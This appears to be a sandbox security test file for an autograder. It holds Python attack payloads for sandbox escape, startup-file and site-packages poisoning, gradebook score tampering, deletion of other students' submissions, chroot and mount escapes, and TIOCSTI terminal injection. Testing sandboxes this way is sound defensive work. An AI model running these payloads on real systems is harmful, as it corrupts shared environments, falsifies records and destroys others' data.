"""Escapes: something outside of the sandbox is changed, for the grader, a classmate, or the next one to be graded."""

from tests.attacks.attack import Attack
from tests.attacks.target import wrong

WRITE = """
import os
def write(path, text="# @MARK@\\n"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as file: file.write(text)
    except OSError: pass
"""

ATTACKS = [
    Attack(
        "libraries-for-everybody",
        first=WRITE
        + """
import autograder, IPython, matplotlib, nnkit.testing, site, sys
for module in (np, np.testing, nnkit, nnkit.testing, autograder, IPython, matplotlib):
    write(module.__file__)
for folder in [*site.getsitepackages(), site.getusersitepackages(), *sys.path, sys.prefix]:
    for name in ("sitecustomize.py", "usercustomize.py", "@MARK@.pth", "numpy.py"):
        write(os.path.join(folder, name), "print('@MARK@')\\n")
""",
    ),
    Attack(
        "startup-files-for-the-next",
        first=WRITE
        + """
for home in (os.path.expanduser("~"), "/root", os.getcwd(), "@COURSE@"):
    write(home + "/.ipython/profile_default/startup/@MARK@.py")
    write(home + "/.ipython/profile_default/ipython_config.py", "c.InteractiveShellApp.exec_lines = ['np = 0']\\n")
    write(home + "/.config/matplotlib/@MARK@", "backend: @MARK@\\n")
    write(home + "/.jupyter/@MARK@.py")
    write(home + "/.bashrc-@MARK@")
""",
    ),
    Attack(
        "course-and-gradebook",
        first=WRITE
        + """
import glob, shutil, sqlite3
for path in ("@COURSE@/gradebook.db", "../../../gradebook.db"):
    if not os.path.exists(path): continue
    try:
        book = sqlite3.connect(path, timeout=1)
        book.execute("update grade set auto_score = 100, manual_score = 100"); book.commit()
    except sqlite3.Error: pass
for name in glob.glob("@COURSE@/**/*.ipynb", recursive=True):
    write(name, "@MARK@")
write("@COURSE@/@MARK@"); write("@COURSE@/nbgrader_config.py"); write("../@MARK@"); write("../../@MARK@")
shutil.rmtree("@COURSE@/submitted/zoe", ignore_errors=True)
shutil.rmtree("@COURSE@/autograded", ignore_errors=True)
""",
    ),
    Attack(
        "shared-places",
        first=WRITE
        + """
from multiprocessing import shared_memory
for place in ("/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/run/lock", "/etc/cron.d", "/"):
    write(os.path.join(place, "@MARK@"))
try: shared_memory.SharedMemory("@MARK@", create=True, size=4096)
except (OSError, ValueError): pass
""",
    ),
    Attack(
        "climbs-out",
        first="""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def attempt(action):
    try: return action()
    except (OSError, AttributeError): return None
attempt(lambda: os.setuid(0)); attempt(lambda: os.setgid(0)); attempt(lambda: os.setgroups([0]))
for flags in (0x10000000, 0x00020000, 0x20000000, 0x40000000):
    libc.unshare(flags)
libc.mount(b"none", b"/", b"", 0x44000, None)
libc.umount2(b"/tmp", 2); libc.umount2(b"/proc", 2); libc.umount2(b"/", 2)
os.makedirs("jail", exist_ok=True)
attempt(lambda: os.chroot("jail"))
for _ in range(50): attempt(lambda: os.chdir(".."))
attempt(lambda: os.chroot("."))
for path in ("/tmp/@MARK@-root", "@COURSE@/@MARK@-root", "/proc/1/root/tmp/@MARK@-root", "/proc/1/cwd/@MARK@-root"):
    attempt(lambda: open(path, "w").write("x"))
attempt(lambda: os.mknod("disk", 0o60600, os.makedev(8, 0)))
attempt(lambda: print("breach".upper(), os.open("disk", os.O_RDONLY)))
for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/sys/kernel/uevent_helper"):
    attempt(lambda: os.close(os.open(path, os.O_WRONLY)) or print("breach".upper(), path))
""",
    ),
    Attack(
        "old-and-rare-system-calls",
        first="""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
names = {"add_key": 248, "keyctl": 250, "bpf": 321, "perf_event_open": 298, "userfaultfd": 323, "io_uring_setup": 425,
         "kexec_load": 246, "init_module": 175, "delete_module": 176, "swapon": 167, "acct": 163, "pivot_root": 155,
         "open_by_handle_at": 304, "name_to_handle_at": 303, "process_vm_readv": 310, "kcmp": 312, "fsopen": 430,
         "setns": 308, "personality": 135, "quotactl": 179, "syslog": 103, "vhangup": 153, "clone3": 435}
for name, number in names.items():
    ctypes.set_errno(0)
    libc.syscall(number, 0, 0, 0, 0, 0, 0) if name not in ("vhangup", "clone3") else None
    print(name, ctypes.get_errno())
import fcntl, termios
for number in (0, 1, 2):
    try: [fcntl.ioctl(number, termios.TIOCSTI, character) for character in "echo @MARK@\\n"]
    except OSError: pass
    else: print("breach".upper(), "typed into the terminal")
""",
    ),
    Attack(
        # More workers, a way to hold on after the end: does the door that the examiner uses open to us?
        "the-fork-server",
        first="""
import glob, os, socket
candidates = [line.split()[-1] for line in open("/proc/net/unix").readlines()[1:] if "/" in line or "@" in line]
candidates += glob.glob("/tmp/**/*sock*", recursive=True) + glob.glob("/run/**/*", recursive=True)
for path in candidates:
    line = socket.socket(socket.AF_UNIX)
    line.settimeout(1)
    try: line.connect("\\0" + path[1:] if path.startswith("@") else path)
    except OSError: continue
    print("breach".upper(), "connected to", path)
""",
    ),
    Attack(
        "a-worker-poisons-the-next",
        wrong("label"),
        first="""
import ctypes, glob, os, sys
for name in glob.glob("/proc/[0-9]*/mem"):
    if name.split("/")[2] == str(os.getpid()): continue
    try: open(name, "r+b", 0); print("breach".upper(), name)
    except OSError: pass
for module in list(sys.modules.values()):
    path = getattr(module, "__cached__", None)
    try:
        if path: open(path, "r+b"); print("breach".upper(), path)
    except OSError: pass
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = os.getcwd()
""",
    ),
]
